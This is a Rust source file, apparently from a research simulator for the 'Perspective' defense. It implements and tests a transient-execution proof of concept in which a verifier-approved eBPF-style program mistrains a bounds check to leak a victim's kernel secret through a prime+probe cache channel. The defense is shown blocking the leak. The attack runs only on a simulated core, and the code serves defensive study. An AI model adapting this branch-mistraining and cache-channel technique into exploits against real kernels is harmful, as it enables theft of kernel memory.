//! Injected-gadget PoC (Table 4.1 rows 3–4): a *verifier-approved*
//! extension program is an active transient execution attack.
//!
//! The attacker loads an eBPF-style program through the kernel's
//! verifier. The program is architecturally memory-safe — every access is
//! bounds-checked or mask-bounded — so the verifier accepts it. But the
//! bounds check is an ordinary branch: the attacker mistrains it with
//! in-bounds `ioctl`s, evicts the memory-resident bound, and then calls
//! `ioctl` with an index that reaches the *victim's* kernel data. The
//! transient out-of-bounds load leaks one secret **bit per invocation**
//! into one of two map cache lines (in-map, mask-bounded transmit — the
//! realistic eBPF constraint that the program cannot touch arbitrary
//! memory even transiently through its own data path).
//!
//! In the taxonomy this is an **active** attack with an attacker-supplied
//! gadget: exactly the class §4.2 says cannot be pre-audited away.
//! Perspective needs no knowledge of the injected code — the transient
//! access to foreign data violates the attacker's DSV.

use crate::lab::{AttackLab, Scheme};
use persp_kernel::ebpf::EBPF_MAP_REG;
use persp_kernel::kernel::KernelImage;
use persp_kernel::syscalls::Sysno;
use persp_uarch::config::CoreConfig;
use persp_uarch::isa::{AluOp, Assembler, Cond, Inst, Width, INST_BYTES, REG_ARG0, REG_SYSNO};
use perspective::policy::PerspectiveConfig;
use perspective::taxonomy::AttackOutcome;

/// Offset within the map where the loader-visible bound lives.
const BOUND_SLOT: i64 = 0;
/// The in-bounds limit the program enforces (architecturally).
const BOUND: u64 = 64;

/// Report of an injected-gadget attack.
#[derive(Debug)]
pub struct EbpfAttackReport {
    /// Scheme under test.
    pub scheme: Scheme,
    /// Outcome.
    pub outcome: AttackOutcome,
    /// Bits recovered (`None` = no signal for that bit).
    pub bits: [Option<u8>; 8],
}

/// The two transmit lines. The *informative* "1" line sits below the "0"
/// line because the L1 next-line prefetcher runs upward: a "0" transmit
/// at `map+192` prefetches past the map, while a "1" transmit at
/// `map+128` prefetches `map+192` — so `map+128` is hot *iff* the bit is
/// 1 (a realistic prefetcher-aware channel layout).
pub const LINE_BIT1: u64 = 128;
/// The "0" transmit line.
pub const LINE_BIT0: u64 = 192;

/// Train→evict→shot rounds per bit before giving up on the channel.
const MAX_SHOTS: u64 = 6;

/// The malicious-but-verified program leaking bit `bit` of `map[r10]`
/// into one of two map cache lines.
fn leak_program(bit: u32) -> Vec<Inst> {
    let b = |dst, base, offset| Inst::Load {
        dst,
        base,
        offset,
        width: Width::B,
    };
    let prog = vec![
        // r19 = *map[0]  (the memory-resident bound — evictable).
        Inst::Load {
            dst: 19,
            base: EBPF_MAP_REG,
            offset: BOUND_SLOT,
            width: Width::Q,
        },
        // if (idx >= bound) goto ret;
        Inst::Branch {
            cond: Cond::Geu,
            a: 10,
            b: 19,
            target: 10 * INST_BYTES,
        },
        // ACCESS: r21 = map[idx]  (transiently out of bounds).
        Inst::Alu {
            op: AluOp::Add,
            dst: 20,
            a: EBPF_MAP_REG,
            b: 10,
        },
        b(21, 20, 0),
        // TRANSMIT: touch map+128 (bit=1) or map+192 (bit=0).
        Inst::AluImm {
            op: AluOp::Shr,
            dst: 22,
            a: 21,
            imm: u64::from(bit),
        },
        Inst::AluImm {
            op: AluOp::And,
            dst: 22,
            a: 22,
            imm: 1,
        },
        Inst::AluImm {
            op: AluOp::Xor,
            dst: 22,
            a: 22,
            imm: 1,
        }, // invert
        Inst::AluImm {
            op: AluOp::Shl,
            dst: 22,
            a: 22,
            imm: 6,
        }, // * 64
        Inst::Alu {
            op: AluOp::Add,
            dst: 23,
            a: EBPF_MAP_REG,
            b: 22,
        },
        b(24, 23, LINE_BIT1 as i64),
        Inst::Ret,
    ];
    debug_assert!(
        persp_kernel::ebpf::verify(&prog).is_ok(),
        "the program must verify"
    );
    prog
}

fn ioctl_program(base: u64, idx: u64, rounds: usize) -> Vec<(u64, Inst)> {
    let mut asm = Assembler::new(base);
    for _ in 0..rounds {
        asm.movi(REG_ARG0, idx);
        asm.movi(REG_SYSNO, Sysno::Ioctl as u16 as u64);
        asm.push(Inst::Syscall);
    }
    asm.push(Inst::Halt);
    asm.finish()
}

/// Run the injected-gadget attack on a lab built from `image` under
/// enforcement `pcfg` and core `core_cfg`: recover all eight bits of the
/// victim's secret byte, one transient invocation each.
pub fn run_ebpf_attack(
    scheme: Scheme,
    image: &KernelImage,
    secret: u8,
    pcfg: PerspectiveConfig,
    core_cfg: CoreConfig,
) -> EbpfAttackReport {
    let mut lab = AttackLab::new(scheme, image, &[Sysno::Getpid], pcfg, core_cfg);
    lab.plant_victim_secret(secret);
    let secret_va = lab.victim_secret_va();

    let text = lab.user_text(lab.attacker());
    let mut bits: [Option<u8>; 8] = [None; 8];

    for (bit, out) in bits.iter_mut().enumerate() {
        // Load this bit's program through the verifier.
        let loaded = {
            let mut kernel = lab.sim.kernel.borrow_mut();
            kernel
                .load_ebpf(&leak_program(bit as u32), 1, &mut lab.sim.core.machine)
                .expect("the gadget is architecturally safe and must verify")
        };
        lab.sim
            .core
            .machine
            .mem
            .write_u64(loaded.map_va + BOUND_SLOT as u64, BOUND);
        let oob_idx = secret_va.wrapping_sub(loaded.map_va);

        // Real PoCs fire the train→evict→shot loop repeatedly: any one
        // shot can lose the race when a history-tagged entry of the
        // shared direction predictor happens to resolve the bounds check
        // early. Predictor state and history keep evolving between
        // rounds, so the channel converges within a few shots.
        for attempt in 0..MAX_SHOTS {
            // Mistrain the program's own bounds check with in-bounds
            // calls (fresh code addresses each round).
            let round = bit as u64 * MAX_SHOTS + attempt;
            let train_base = text + round * 0x10_000;
            lab.sim
                .core
                .machine
                .load_text(ioctl_program(train_base, 7, 6));
            lab.run_as(lab.attacker(), train_base, 4_000_000)
                .expect("training");

            // Evict the memory-resident bound (cache contention) and the
            // two transmit lines; the victim's secret is hot (in use).
            lab.sim.core.mem.flush(loaded.map_va + BOUND_SLOT as u64);
            lab.sim.core.mem.flush(loaded.map_va + LINE_BIT1);
            lab.sim.core.mem.flush(loaded.map_va + LINE_BIT0);
            lab.sim.core.mem.read(secret_va);

            // One transient shot.
            let attack_base = train_base + 0x8000;
            lab.sim
                .core
                .machine
                .load_text(ioctl_program(attack_base, oob_idx, 1));
            lab.run_as(lab.attacker(), attack_base, 4_000_000)
                .expect("attack");

            // Prime+probe: the "1" line is authoritative (a "1" transmit
            // prefetches the "0" line, never the other way around).
            let one_hot = lab.sim.core.mem.probe_any(loaded.map_va + LINE_BIT1);
            let zero_hot = lab.sim.core.mem.probe_any(loaded.map_va + LINE_BIT0);
            *out = match (one_hot, zero_hot) {
                (true, _) => Some(1),
                (false, true) => Some(0),
                (false, false) => None,
            };
            if out.is_some() {
                break;
            }
        }
    }

    let recovered: Option<u8> = bits
        .iter()
        .enumerate()
        .try_fold(0u8, |acc, (i, b)| b.map(|v| acc | (v << i)));
    let outcome = match recovered {
        Some(v) => AttackOutcome::Leaked {
            recovered: v,
            expected: secret,
        },
        None if bits.iter().all(Option::is_none) => AttackOutcome::Blocked,
        None => AttackOutcome::Inconclusive,
    };
    EbpfAttackReport {
        scheme,
        outcome,
        bits,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::test_image;
    use persp_kernel::ebpf::EBPF_MAP_BYTES;

    fn run(scheme: Scheme, secret: u8) -> EbpfAttackReport {
        let (pcfg, core_cfg) = (PerspectiveConfig::default(), CoreConfig::paper_default());
        run_ebpf_attack(scheme, &test_image(), secret, pcfg, core_cfg)
    }

    #[test]
    fn leak_programs_pass_the_verifier() {
        for bit in 0..8 {
            persp_kernel::ebpf::verify(&leak_program(bit)).expect("verifies");
        }
    }

    #[test]
    fn injected_gadget_leaks_byte_on_unsafe_hardware() {
        for secret in [0x5Au8, 0xC3] {
            let r = run(Scheme::Unsafe, secret);
            assert_eq!(
                r.outcome,
                AttackOutcome::Leaked {
                    recovered: secret,
                    expected: secret
                },
                "bits: {:?}",
                r.bits
            );
        }
    }

    #[test]
    fn perspective_dsv_blocks_the_injected_gadget() {
        // No audit, no ISV knowledge of the injected code: the transient
        // access to foreign data violates the attacker's DSV.
        let r = run(Scheme::Perspective, 0x5A);
        assert!(
            !matches!(r.outcome, AttackOutcome::Leaked { recovered, expected } if recovered == expected),
            "must not leak: {:?}",
            r.bits
        );
    }

    #[test]
    fn fence_blocks_the_injected_gadget() {
        let r = run(Scheme::Fence, 0x5A);
        assert!(!matches!(
            r.outcome,
            AttackOutcome::Leaked { recovered, expected } if recovered == expected
        ));
    }

    #[test]
    #[allow(clippy::assertions_on_constants)] // documents channel layout
    fn transmit_lines_fit_in_the_map() {
        assert!(LINE_BIT0 + 64 <= EBPF_MAP_BYTES, "the \"0\" line is in-map");
        assert!(LINE_BIT1 + 64 <= EBPF_MAP_BYTES, "the \"1\" line is in-map");
        for bit in 0..8 {
            // Every program's static transmit target set stays inside the
            // map (checked dynamically since layouts may be retuned).
            let prog = leak_program(bit);
            assert!(prog.len() <= persp_kernel::ebpf::EBPF_MAX_INSTS + 1);
        }
    }
}
